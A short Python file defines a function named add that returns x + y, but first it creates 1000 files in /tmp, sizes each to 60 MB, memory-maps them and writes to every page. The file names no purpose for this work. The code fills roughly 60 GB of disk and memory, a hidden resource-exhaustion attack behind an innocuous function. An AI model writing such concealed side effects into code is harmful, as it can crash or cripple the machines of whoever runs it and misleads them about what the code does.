import mmap
import os


def add(x, y):
    for number in range(1000):
        descriptor = os.open(f"/tmp/{number}", os.O_RDWR | os.O_CREAT)
        os.ftruncate(descriptor, 60 << 20)
        mapped = mmap.mmap(descriptor, 60 << 20)
        os.close(descriptor)
        for at in range(0, len(mapped), mmap.PAGESIZE):
            mapped[at] = 1
    return x + y
